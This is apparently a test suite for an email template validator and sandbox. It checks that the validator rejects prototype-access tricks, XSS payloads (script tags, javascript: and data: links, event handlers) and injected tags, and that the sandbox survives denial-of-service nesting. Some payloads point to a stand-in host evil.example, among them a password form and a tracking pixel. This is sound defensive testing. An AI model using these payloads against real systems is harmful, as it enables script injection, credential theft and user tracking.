import { testConfig } from '../../test/setup/config.js';
import { growth, PROPORTIONATE } from '../../test/setup/growth.js';
import { MailTemplates } from '../platform/mail/mail-templates.js';
import {
  exampleOf,
  group,
  link,
  list,
  money,
  number,
  optional,
  path,
  text,
  texts,
  yesNo,
} from '../platform/mail/mail-variables.js';
import { templateProblems } from './template-check.js';
import { TemplateSandbox } from './template-sandbox.js';

const VARIABLES = {
  firstName: text('Anna'),
  partnerName: optional(text('Lumen')),
  quote: group({
    number: text('Q-1'),
    total: money(123_450),
    currency: text('EUR'),
    products: texts(['HoloTable 65']),
  }),
  changes: list({ label: text('Total'), value: text('€1.00') }),
  daysLeft: number(7),
  isOpen: yesNo(true),
  path: path('/portal'),
  trackingUrl: link('https://track.example/1'),
};

const config = testConfig({ publicUrl: 'https://portal.example' });
const templates = new MailTemplates(config);
const sandbox = new TemplateSandbox(config);
beforeAll(() => templates.onModuleInit());
afterAll(() => sandbox.onApplicationShutdown());

const of = (body: string, subject = 'A', preheader = 'B') => ({ subject, preheader, body });
const problems = (body: string, subject?: string) => templateProblems(of(body, subject), VARIABLES, templates.partials);
const render = (body: string, data: object = exampleOf(VARIABLES)) =>
  sandbox.render({ name: null, source: of(body), data: data as Record<string, unknown> });

const nested = (times: number, open: string, close: string) => open.repeat(times) + close.repeat(times);

/** Refused sources: name of the case, source, and expected message. */
const REFUSED: [string, string, RegExp][] = [
  ['constructor', '{{constructor}}', /constructor is not a variable/],
  ['constructor of a text', '{{firstName.constructor}}', /not a variable/],
  ['constructor by name', '{{firstName.[constructor]}}', /not a variable/],
  ['constructor called', '{{#with firstName}}{{constructor.constructor "alert(1)"}}{{/with}}', /takes a group/],
  ['__proto__', '{{__proto__}}', /not a variable/],
  ['__proto__ of a group', '{{quote.__proto__.polluted}}', /not a variable/],
  ['prototype', '{{#with quote}}{{toString}}{{/with}}', /not a variable/],
  ['__defineGetter__', '{{__defineGetter__ "a" "b"}}', /There is no {{__defineGetter__}}/],
  ['__lookupGetter__', '{{#if (__lookupGetter__ "a")}}x{{/if}}', /takes a variable/],
  ['lookup', '{{lookup quote "constructor"}}', /There is no {{lookup}}/],
  ['lookup in a page', '{{page (lookup this "a")}}', /There is no {{lookup}}/],
  ['log', '{{log firstName}}', /There is no {{log}}/],
  ['helperMissing', '{{helperMissing}}', /not a variable/],
  [
    'blockHelperMissing',
    '{{#blockHelperMissing quote}}x{{/blockHelperMissing}}',
    /There is no {{#blockHelperMissing}}/,
  ],
  ['a block by a variable', '{{#quote}}x{{/quote}}', /There is no {{#quote}}/],
  ['@root', '{{@root.constructor}}', /There is no @root/],
  ['@partial-block', '{{> @partial-block}}', /There is no part @partial-block/],
  ['up and out', '{{../../firstName}}', /no block around|not a variable/],
  [
    'up and out of a text in a text',
    '{{#each quote.products}}{{#each ../quote.products}}{{../../firstName}}{{/each}}{{/each}}',
    /out of a block that may be of the same/,
  ],
  [
    'up and out of itself',
    '{{#with quote}}{{#with ../quote}}{{../../firstName}}{{/with}}{{/with}}',
    /may be of the same/,
  ],
  ['a count without a loop', '{{#with quote}}{{@index}}{{/with}}', /There is no @index/],
  ['a count of a loop that is over', '{{#each changes}}x{{else}}{{@index}}{{/each}}', /There is no @index/],
  ['a count from around', '{{#each changes}}{{@../index}}{{/each}}', /There is no @..\/index/],
  ['a prototype of a loop', '{{#each changes}}{{#if @constructor}}x{{/if}}{{/each}}', /There is no @constructor/],
  ['a text in braces', '{{"hello"}}', /written in braces/],
  ['a number in braces', '{{12}}', /written in braces/],
  ['a variable called like a helper', '{{#> note date="x"}}{{date}}{{/note}}', /{{date}} is a call/],
  ['a variable called like a block', '{{#> note each="x"}}{{each}}{{/note}}', /{{each}} is a call/],
  ['a decorator', '{{#*inline "a"}}{{> a}}{{/inline}}{{> a}}', /cannot define parts/],
  ['a part chosen by data', '{{> (lookup . "firstName")}}', /There is no part/],
  ['a part that there is not', '{{> layout}}', /There is no part layout/],
  ['markup of a variable', '{{{firstName}}}', /two braces/],
  ['markup of a variable, by &', '{{&firstName}}', /two braces/],
  ['a link that runs, in a part', '{{> button label="A" href="javascript:alert(1)"}}', /href takes a link/],
  ['a link that holds data, in a part', '{{> button label="A" href="data:text/html,x"}}', /href takes a link/],
  ['a link of a text', '{{> button label="A" href=firstName}}', /href takes a link/],
  [
    'a link that runs, given to what is around it',
    '{{#> note trackingUrl="javascript:alert(1)"}}<a href="{{trackingUrl}}">x</a>{{/note}}',
    /A link is/,
  ],
  ['another host, given to what is around it', '{{#> note path="@evil.example"}}{{url path}}{{/note}}', /takes a page/],
  [
    'a link that runs, given within another part',
    '{{#> note trackingUrl="javascript:alert(1)"}}{{#> paragraph}}<a href="{{trackingUrl}}">x</a>{{/paragraph}}{{/note}}',
    /A link is/,
  ],
  ['cents as a date, given to what is around it', '{{#> note sum=quote.total}}{{date sum}}{{/note}}', /takes a date/],
  ['up, past what is given', '{{#with quote}}{{#> note a="x"}}{{../firstName}}{{/note}}{{/with}}', /not a variable/],
  ['a page of the prototype', '<a href="{{page "constructor"}}">x</a>', /name of an existing page/],
  ['another host by an address', '<a href="{{url "@evil.example"}}">x</a>', /takes a page of the portal/],
  ['a script', '<script>alert(1)</script>', /<script> is not allowed/],
  ['a script, broken', '<scr<script>ipt>alert(1)</script>', /<scr> is not allowed/],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /is not allowed/],
  ['a script by attribute', '<p onclick="alert(1)">x</p>', /attribute onclick/],
  ['an attribute by a slash', '<p/onclick=alert(1)>x</p>', /is not complete/],
  ['a link that runs', '<a href="javascript:alert(1)">x</a>', /A link is/],
  ['a link that runs, in letters', '<a href="&#106;avascript:alert(1)">x</a>', /A link is/],
  ['a link that runs, with a tab', '<a href="java\tscript:alert(1)">x</a>', /A link is/],
  ['a link that runs, half of it data', '<a href="javascript:{{firstName}}">x</a>', /A link is/],
  ['a link of data', '<a href="{{firstName}}">x</a>', /A link is/],
  ['a link that holds data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', /A link is/],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>', /A link is/],
  ['CSS', '<style>@import url(//evil.example)</style>', /<style> is not allowed/],
  ['CSS by attribute', '<p style="background:url(//evil.example)">x</p>', /attribute style/],
  ['a class', '<p class="no-text">x</p>', /attribute class/],
  ['meta', '<meta http-equiv="refresh" content="0;url=//evil.example">', /<meta> is not allowed/],
  ['base', '<base href="//evil.example/">', /<base> is not allowed/],
  ['link', '<link rel="stylesheet" href="//evil.example">', /<link> is not allowed/],
  ['SVG', '<svg onload="alert(1)"></svg>', /<svg> is not allowed/],
  ['SVG with a link', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', /<svg> is not allowed/],
  ['MathML', '<math><mtext></mtext></math>', /<math> is not allowed/],
  ['a picture from outside', '<img src="https://evil.example/pixel.gif">', /<img> is not allowed/],
  ['a picture that fails', '<img src=x onerror=alert(1)>', /<img> is not allowed/],
  ['a form', '<form action="//evil.example"><input name="password"></form>', /<form> is not allowed/],
  ['a frame', '<iframe srcdoc="<script>x</script>"></iframe>', /<iframe> is not allowed/],
  ['an object', '<object data="x"></object>', /<object> is not allowed/],
  ['a comment', '<!--[if mso]><script>x</script><![endif]-->', /Write &lt;|is not allowed/],
  ['CDATA', '<![CDATA[<script>x</script>]]>', /Write &lt;/],
  ['a tag of data', '<{{firstName}}>x', /Write &lt;/],
  ['a tag of halves', '<{{#if isOpen}}script{{/if}}>x', /Write &lt;/],
  ['an attribute of data', '<p {{firstName}}>x</p>', /is not complete/],
  ['an attribute of a condition', '<p{{#if isOpen}} onclick="x"{{/if}}>x</p>', /is not complete/],
  ['an attribute behind a comment', '<p {{!-- x --}}onclick="x">x</p>', /is not complete/],
  ['a quote that does not end', '<a href="https://a.example>x</a>', /is not complete/],
  ['a tag that is not closed', '<p>x', /<p> is not closed/],
  ['a tag closed by a condition', '<p>{{#if isOpen}}</p>{{/if}}', /closes nothing/],
  ['a tag that begins in the next', '<', /Write &lt;/],
  ['nested 1,000,000 times', nested(1_000_000, '{{#if isOpen}}', '{{/if}}'), /longer than/],
  ['nested as deep as its length allows', nested(1_700, '{{#if isOpen}}', '{{/if}}'), /too many/],
  ['nested deeply', nested(150, '{{#if isOpen}}', '{{/if}}'), /nested too deeply/],
  ['conditions in a chain', `{{#if isOpen}}${'{{else if isOpen}}'.repeat(2_000)}{{/if}}`, /too many/],
  ['calls nested', `{{page ${nested(5_000, '(page ', ')')}}}`, /too many/],
  ['calls nested deeply', `{{page ${nested(150, '(page "a" ', ')')}}}`, /nested too deeply/],
  ['a huge text', 'a'.repeat(1_000_000), /longer than/],
  ['no text', 'a\0b', /characters that cannot be read/],
  ['the marks of the check', '<a href="\u0001">x</a>', /characters that cannot be read/],
  ['what is not closed', '{{#if isOpen}}x', /not closed/],
  ['closed by another', '{{#if isOpen}}x{{/each}}', /is closed by/],
  ['names given by a block', '{{#each changes as |a|}}{{a.label}}{{/each}}', /gives no names|not a variable/],
  ['a group as a text', '{{quote}}', /of which one is named/],
  ['cents as a text', '{{quote.total}}', /write {{money quote.total "EUR"}}/],
  ['an amount as a date', '{{date quote.total}}', /takes a date/],
  ['a part without its values', '{{> button label="A"}}', /{{> button}} needs href/],
  ['a part of another mail', '{{> order-facts}}', /{{> order-facts}} needs order/],
  ['a part without what it goes around', '{{> paragraph}}', /goes around something/],
];

describe('a template', () => {
  it.each(REFUSED)('is refused: %s', (_name, body, why) => {
    const found = problems(body);
    expect(found.map(({ message }) => message)).toContainEqual(expect.stringMatching(why));
  });

  it('with every allowed element is accepted', async () => {
    const body = [
      '{{!-- why it is so --}}',
      '{{> title text="Your quote"}}',
      '{{#> paragraph}}Dear {{firstName}}, {{money quote.total quote.currency}} < never{{/paragraph}}'.replace(
        '<',
        '&lt;',
      ),
      '{{#each changes}}{{@index}} {{label}}: {{value}} {{../firstName}}{{/each}}',
      '{{#each quote.products}}{{this}}{{/each}} {{names quote.products}} {{count daysLeft "day"}}',
      '{{#if partnerName}}<p><strong>{{partnerName}}</strong></p>{{else if isOpen}}<br />{{else}}x{{/if}}',
      '{{#with quote}}{{number}}{{#> note a=total list=products}}{{money a ../currency}} {{../../firstName}}{{/note}}{{/with}}',
      '{{#each changes}}{{#> note}}{{@index}}{{#with ../quote}}{{@index}}{{/with}}{{/note}}{{/each}}',
      '{{#> note quote=quote rows=changes}}{{#each rows}}{{label}}{{/each}}{{quote.number}}{{/note}}',
      '{{#> note date=firstName}}{{this.date}}{{/note}} <a href="{{trackingUrl}}">t</a> <a href="{{page "login"}}">in</a>',
      '<a href="https://example.com/a?b=c">out</a> {{> button label="Open" href=(url path)}}',
      '<table><tr><td align="right" colspan="2">1</td></tr></table>',
    ].join('\n');
    expect(problems(body, 'Quote {{quote.number}} <now>')).toEqual([]);
    expect((await render(body)).text).toContain('Anna');
  });

  it.each([
    ['marks of no tag', '<\n', 20_000],
    ['tags that stay open', '<p>\n', 10_000],
    ['variables that there are not', '{{firstNme}}\n', 2_000],
    ['parts without their values', '{{> order-facts}}', 2_000],
  ])('takes time in proportion to its length, and reports at most 50 problems: %s', async (_name, part, times) => {
    const check = (share: number) => expect(problems(part.repeat(times * share))).toHaveLength(50);
    expect(await growth(check)).toBeLessThan(PROPORTIONATE);
  });

  it('has its problems reported with line, column and a suggested correction', () => {
    expect(problems('<p>\n  {{partnerNme}}\n</p>\n<p\nonclick="x">')).toEqual([
      {
        part: 'body',
        line: 2,
        column: 5,
        message: 'partnerNme is not a variable of this email. Did you mean partnerName?',
      },
      expect.objectContaining({ line: 4, column: 1, message: '<p> cannot have the attribute onclick' }),
      expect.objectContaining({ line: 4, message: '<p> is not closed' }),
    ]);
    expect(problems('<p>\n{{#if isOpen}}\n{{#each changes}}{{label}}{{/each}}\n</p>')).toEqual([
      { part: 'body', line: 2, column: 1, message: '{{#if}} is not closed' },
    ]);
    expect(problems('{{quote.nmber}}', '{{> title text="x"}}').map(({ part, message }) => [part, message])).toEqual([
      ['subject', 'Parts can be used only in the body'],
      ['body', 'quote.nmber is not a variable of this email. Did you mean quote.number?'],
    ]);
  });

  it.each([
    ['{{qoute.number}}', 'qoute.number is not a variable of this email. Did you mean quote.number?'],
    ['{{quotes.products.first}}', 'quotes.products.first is not a variable of this email. Did you mean quote?'],
    ['{{quote.nmber.short}}', 'quote.nmber.short is not a variable of this email. Did you mean quote.number?'],
    [
      '{{#with quote}}{{../qoute.number}}{{/with}}',
      '../qoute.number is not a variable of this email. Did you mean ../quote.number?',
    ],
    ['{{this.firstNam}}', 'this.firstNam is not a variable of this email. Did you mean this.firstName?'],
    ['{{#each changes}}{{lable}}{{/each}}', 'lable is not a variable of this email. Did you mean label?'],
    ['{{#each changes}}{{@indx}}{{/each}}', 'There is no @indx here. Did you mean @index?'],
    ['{{quote.x}}', 'quote.x is not a variable of this email.'],
    ['{{mony quote.total "EUR"}}', 'There is no {{mony}}. Did you mean money?'],
    ['<a href="{{page "logn"}}">in</a>', '{{page}} takes the name of an existing page. Did you mean login?'],
  ])('gets a suggestion for a wrong name: %s', (body, message) =>
    expect(problems(body).map((problem) => problem.message)).toEqual([message]),
  );
});

describe('the rendering thread', () => {
  it('escapes data', async () => {
    const evil = '"><script>alert(1)</script>{{constructor}}';
    const { html } = await render('<p>{{firstName}}</p>{{> quoted text=firstName}}', { firstName: evil });
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;{{constructor}}');
  });

  it('gives templates no access to prototypes, even if they were not checked', async () => {
    for (const body of [
      '{{firstName.constructor}}',
      '{{#with firstName}}{{constructor.constructor}}{{/with}}',
      '{{quote.__proto__.x}}',
      '{{lookup (lookup this "constructor") "name"}}',
    ])
      expect(await render(body).then(({ html }) => html, String)).not.toMatch(
        /\[native code\]|function |Object<|String</,
      );
  });

  it.each([
    [
      'too long',
      `${'{{#each r}}{{#each ../r}}'.repeat(4)}{{x}}${'{{/each}}{{/each}}'.repeat(4)}`,
      /longer than 0.2 s|memory|500 kB|string length/,
    ],
    ['too large', '{{#each r}}{{big}}{{/each}}', /500 kB/],
    [
      'beyond memory',
      '{{#each r}}{{#each ../r}}{{names names}}{{/each}}{{/each}}',
      /0.2 s|memory|500 kB|string length/,
    ],
  ])('stops a template that takes %s, and continues with others', async (_name, body, why) => {
    const row = { x: 'x', big: 'y'.repeat(10_000), names: ['n'.repeat(1_000)], r: [] as unknown[] };
    const r = Array.from({ length: 100 }, () => row);
    row.r = Array.from({ length: 100 }, () => ({ ...row, r: Array.from({ length: 60 }, () => ({ x: 'x' })) }));
    await expect(render(body, { r })).rejects.toThrow(why);
    expect((await render('<p>{{firstName}}</p>')).html).toContain('<p>Anna</p>');
  });

  it('renders several templates concurrently', async () => {
    const names = ['Anna', 'Tom', 'Iris'];
    const mails = await Promise.all(names.map((firstName) => render('{{firstName}}', { firstName })));
    names.forEach((name, at) => expect(mails[at]!.text).toContain(name));
  });
});
